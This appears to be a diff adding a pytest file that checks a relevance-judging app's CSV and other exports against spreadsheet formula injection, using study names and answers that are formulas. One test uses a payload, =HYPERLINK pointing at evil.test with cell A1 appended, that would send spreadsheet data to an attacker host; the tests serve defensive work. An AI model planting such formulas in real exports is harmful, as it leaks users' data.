@@ -1,0 +1,120 @@
+"""Exports of studies whose ids and words are formulas: no spreadsheet runs them, and we read them back."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from tare.app.exporting import FORMATS, export, offered
+from tare.data.preferences import read_preferences
+from tare.data.pyramid import read_pyramid
+from tare.data.qrels import read_qrels
+from tare.data.ratings import read_ratings
+from tare.data.scu_presence import read_presence
+from tare.measures.scores import Scores
+from tare.studies.judging import Design, Dimension, Study, Task
+from tare.studies.judging.design import Text
+from tests.rooms import ANSWERS, FORMULAS, House
+from tests.unit.data.test_spreadsheets import runs
+
+QUERY, ONE, TWO, OTHER, *_ = (cell for cell in FORMULAS if cell.split() == [cell])
+
+
+def hostile(kind: str) -> Study:
+    """A study of a kind with one task, every name of which is a formula."""
+    units = ((ONE, "-2+3"), (TWO, "@SUM(A1)"))
+    more = {
+        "grades": {"grades": ((0, "no"), (1, "yes"), (2, "very"))},
+        "ratings": {"dimensions": (Dimension(ONE), Dimension(TWO, high=3))},
+    }.get(kind, {})
+    pair = kind in ("preference", "headtohead", "markup")
+    task = Task(QUERY, (ONE, TWO) if pair else (ONE,), units=units if kind == "scus" else ())
+    design = Design(kind, title=OTHER, **more)
+    joined = kind in ("ratings", "headtohead", "scus", "markup")
+    texts = {f"{QUERY}\t{n}" if joined else n: Text("=1+1 is what it says") for n in (ONE, TWO)}
+    return Study(design, (task,), texts, {QUERY: Text("a query")})
+
+
+def answer(kind: str) -> dict:
+    if kind == "ratings":
+        return {"ratings": {ONE: 4, TWO: 2}}
+    if kind == "scus":
+        return {"present": {ONE: "yes", TWO: "no"}}
+    if kind == "markup":
+        marks = [{"reference": 0, "start": 0, "end": 4}, {"reference": 1, "start": 0, "end": 4}]
+        return {"units": [{"label": "=2+5", "contributors": marks}]}
+    return ANSWERS[kind]
+
+
+@pytest.fixture
+def judged(request, tmp_path):
+    kind = request.param
+    with House(hostile(kind), str(tmp_path / "s.db"), invite=2) as house:
+        assert house.assessor(0).judge(answer(kind)).status_code == 200
+        house.owner()
+        yield house
+
+
+KINDS = ["preference", "grades", "ratings", "headtohead", "scus", "markup"]
+
+
+@pytest.mark.parametrize("judged", KINDS, indirect=True)
+def test_no_cell_of_any_export_is_a_formula(judged):
+    owner = judged.owner()
+    for what in offered(judged.store):
+        reply = owner.client.get(f"/owner/export/{what}.csv")
+        assert reply.status_code == 200, what
+        rows = list(csv.reader(io.StringIO(reply.text, newline="")))
+        assert len(rows) > 1
+        assert [cell for row in rows for cell in row if runs(cell)] == [], what
+        assert export(judged.store, what, "csv") == reply.content
+
+
+@pytest.mark.parametrize("judged", ["preference"], indirect=True)
+def test_reasons_are_words_of_strangers(judged):
+    bob = judged.assessor(1)
+    judged.store.study  # noqa: B018 (one answer a task: the second is not offered any)
+    assert "nothing left" in bob.open("/work")
+    ann = judged.assessor(0)
+    ann.post("/undo", submission="undo-of-that-answer-1")
+    ann.judge({"choice": "cannot", "reason": '=HYPERLINK("http://evil.test?"&A1;"x")'})
+    rows = list(csv.DictReader(io.StringIO(export(judged.store, "ratings", "csv").decode())))
+    assert rows[0]["reason"] == '\'=HYPERLINK("http://evil.test?"&A1;"x")'
+    assert json.loads(export(judged.store, "ratings", "jsonl"))["reason"].startswith("=HYPERLINK")
+
+
+@pytest.mark.parametrize("judged", KINDS, indirect=True)
+def test_our_readers_give_the_values_back(judged, tmp_path):
+    outcomes, kind = judged.store.outcomes(texts=True), judged.store.study.design.kind
+
+    def file(what: str, suffix: str = "csv"):
+        path = tmp_path / f"{what}.{suffix}"
+        path.write_bytes(export(judged.store, what, suffix))
+        return path
+
+    rated = read_ratings(file("ratings"))
+    wanted = outcomes.ratings()
+    assert (rated.units, rated.coders, rated.labels) == (wanted.units, wanted.coders, wanted.labels)
+    assert rated.values.tolist() == wanted.values.tolist()
+    if kind in ("preference", "headtohead"):
+        assert read_preferences(file("preferences")).judgements == outcomes.preferences().judgements
+    if kind == "grades":
+        assert read_qrels(file("qrels")).to_dict() == {QUERY: {ONE: 2.0}}
+    if kind in ("ratings", "headtohead", "scus"):
+        scores = Scores.load(file("scores"))
+        assert set(scores.systems) <= {ONE, TWO}
+        assert scores.items == (QUERY,)
+        assert scores.to_frame().sort("system", "measure")["value"].to_list() == outcomes.scores().sort("system", "measure")["value"].to_list()  # fmt: skip
+    if kind == "scus":
+        assert read_presence(file("scus")) == {(ONE, QUERY): {ONE: [True], TWO: [False]}}
+    if kind == "markup":
+        assert [scu.label for scu in read_pyramid(file("units")).scus] == ["=2+5"]
+
+
+@pytest.mark.parametrize("judged", ["ratings"], indirect=True)
+def test_formats_that_no_spreadsheet_opens_hold_the_values_themselves(judged):
+    for form in set(FORMATS) - {"csv", "txt"}:
+        assert b"'" + QUERY.encode() not in export(judged.store, "ratings", form)
